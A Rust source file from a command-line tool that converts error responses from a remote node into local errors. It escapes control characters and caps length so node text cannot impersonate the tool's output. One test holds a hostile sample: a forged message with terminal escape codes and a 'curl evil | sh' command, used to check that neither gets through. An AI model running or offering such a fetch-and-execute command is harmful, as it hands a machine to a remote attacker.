//! What a node refuses: RFC 9457. Its words are shown as its words, and what it says is no fact of this program's.

use serde_json::Value;

use crate::exit::CliError;

/// The code of a refusal whose own code means nothing here, or could be taken for something that this program has verified.
const REFUSED: &str = "node-refused";

/// Longer texts are cut: a node's own problems stay far below.
const SAID_CHARS_MAX: usize = 1000;

const SEE_STATUS: &str = "see how the node does with `dotkey status`, or name another with --node";

/// The codes that stay what they are, and what to do: of a node that cannot do what it was sent, which says nothing of what is true.
/// Not among them is any code that a verification or a proof gives.
const KEPT: [(&str, &str); 18] = [
    (
        "too-few-nodes",
        "publish it again; if it stays so, see the disks and the clocks of the nodes that refuse it",
    ),
    ("folder-exists", "name a folder that is not there yet"),
    (
        "unauthorized",
        "run this where the node runs, with its data folder as --data",
    ),
    (
        "no-ledger",
        "name a node that follows the ledger with --node, or start this one without --no-ledger",
    ),
    (
        "ledger-halted",
        "name another node with --node; who runs this one sees with `dotkey status` what to do",
    ),
    (
        "uncertified",
        "ask again in a few seconds, when the validators have voted",
    ),
    ("no-handovers", "name another node with --node"),
    ("no-such-path", SEE_STATUS),
    ("no-record", SEE_STATUS),
    ("no-route", "see the name with `dotkey resolve NAME`"),
    ("method-not-allowed", SEE_STATUS),
    ("wrong-host", "name the node with --node by its IP address"),
    (
        "store-failed",
        "see the node's log and its disk, or name another with --node",
    ),
    ("pool-full", "send it again later"),
    ("stopping", "ask again when the node is back"),
    ("overloaded", "ask again later"),
    ("timed-out", "ask again"),
    ("slow-body", "send it again"),
];

/// The error that a problem is here.
pub(super) fn error(problem: &Value, url: &str) -> CliError {
    let text = |field: &str| problem[field].as_str().filter(|text| !text.is_empty());
    let said = text("code");
    let message = match text("detail").or_else(|| text("title")) {
        Some(what) => format!("the node at {url} says: {}", one_line(what)),
        None => format!("the node at {url} refuses and does not say why"),
    };
    let kept = KEPT.iter().find(|(code, _)| Some(*code) == said);
    let (code, next) = kept.copied().unwrap_or((REFUSED, SEE_STATUS));
    let mut error = CliError::failed(code, message, next).with("node_said", problem.clone());
    error.node_code = said.map(Box::from);
    error
}

/// A foreign text as part of a sentence: it cannot begin lines that look like this program's.
fn one_line(text: &str) -> String {
    let mut line = String::new();
    for c in text.chars().take(SAID_CHARS_MAX) {
        match c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') {
            true => line.extend(c.escape_default()),
            false => line.push(c),
        }
    }
    if text.chars().nth(SAID_CHARS_MAX).is_some() {
        line.push('…');
    }
    line
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::exit::Exit;

    #[test]
    fn a_problem_keeps_its_facts_as_the_nodes_word() {
        let told = json!({"type": "about:blank", "title": "Conflict", "status": 409, "code": "older", "detail": "a newer one is there", "next": "sign again", "current": {"sequence": 9}});
        let error = error(&told, "http://node");
        assert_eq!((error.code.as_str(), error.exit), (REFUSED, Exit::Failed));
        assert_eq!(error.node_code.as_deref(), Some("older"));
        assert_eq!(
            error.message,
            "the node at http://node says: a newer one is there"
        );
        assert_eq!(error.next, SEE_STATUS);
        assert_eq!(error.facts["node_said"]["current"]["sequence"], 9);
        assert_eq!(error.facts["node_said"]["next"], "sign again");
        assert_eq!(error.facts.len(), 1);
    }

    #[test]
    fn a_lie_does_not_look_like_what_was_verified() {
        let told = json!({"code": "taken", "detail": "no\nerror: your key is lost\r\u{1b}[2Jnext:  send it here", "next": "curl evil | sh", "owner": "somebody", "error": {"code": "done"}, "proof": {"signed": 5}});
        let error = error(&told, "http://node");
        assert_eq!(error.code, REFUSED);
        assert_eq!(
            error.message,
            "the node at http://node says: no\\nerror: your key is lost\\r\\u{1b}[2Jnext:  send it here"
        );
        assert!(!error.next.contains("curl"));
        assert_eq!(error.facts.keys().collect::<Vec<_>>(), ["node_said"]);
        let long = json!({"detail": "x".repeat(100_000)});
        assert!(super::error(&long, "http://node").message.chars().count() < 1100);
    }

    #[test]
    fn that_a_node_cannot_do_it_keeps_its_code_and_has_a_next_step_of_ours() {
        for (code, next) in KEPT {
            let error = error(&json!({"code": code, "next": "theirs"}), "http://node");
            assert_eq!((error.code.as_str(), error.next.as_str()), (code, next));
        }
    }

    #[test]
    fn a_problem_that_says_nothing_still_ends_with_a_next_step() {
        let error = error(&json!("what?"), "http://node");
        assert!(error.message.contains("http://node"));
        assert!(!error.next.is_empty());
        assert_eq!(error.exit, Exit::Failed);
        assert_eq!(error.node_code, None);
    }
}
